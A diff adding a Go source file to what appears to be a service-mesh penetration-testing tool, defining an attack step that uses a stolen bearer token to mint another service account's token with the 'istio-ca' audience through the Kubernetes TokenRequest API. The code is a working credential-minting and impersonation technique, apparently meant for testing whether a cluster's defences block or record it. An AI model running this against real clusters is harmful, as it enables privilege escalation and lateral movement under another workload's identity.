@@ -1,0 +1,52 @@
+package attacks
+
+import (
+	"context"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"strings"
+
+	"github.com/meshbreach/meshbreach/attacker"
+)
+
+// audienceIstio is what istiod asks of a token.
+const audienceIstio = "istio-ca"
+
+// account is the namespace/account of a cast member on the platform.
+func account(t attacker.Target, name string) (string, error) {
+	if name == "" {
+		return "", nil
+	}
+	if t.Authority.Platform == "" {
+		return "", errors.New("there is no platform whose API workloads could reach")
+	}
+	a, ok := t.Authority.Accounts[name]
+	if !ok {
+		return "", fmt.Errorf("nobody knows the account of %q", name)
+	}
+	return a, nil
+}
+
+// minted asks the Kubernetes API for a token of another's account. The nonce
+// travels as the user agent, which the API writes down.
+func (a asking) minted(ctx context.Context, f attacker.Foothold, nonce string) (string, attacker.Observation) {
+	namespace, name, _ := strings.Cut(a.mint, "/")
+	body, o := f.Fetch(ctx, attacker.Knock{
+		Nonce: nonce, Address: a.authority.Platform, Method: "POST",
+		Path: "/api/v1/namespaces/" + namespace + "/serviceaccounts/" + name + "/token",
+		Headers: map[string][]string{
+			"authorization": {"Bearer " + a.token}, "content-type": {"application/json"}, "user-agent": {nonce},
+		},
+		Body: `{"apiVersion":"authentication.k8s.io/v1","kind":"TokenRequest","spec":{"audiences":["` + audienceIstio + `"]}}`,
+		TLS:  &attacker.TLS{ServerName: "kubernetes.default.svc", ALPN: []string{"h2"}},
+	})
+	if o.Refusal != nil {
+		return "", o
+	}
+	var answer struct{ Status struct{ Token string } }
+	if err := json.Unmarshal(body, &answer); err != nil || answer.Status.Token == "" {
+		o.Reply, o.Refusal = nil, &attacker.Refusal{Layer: attacker.LayerApp, Text: "the answer holds no token"}
+	}
+	return answer.Status.Token, o
+}
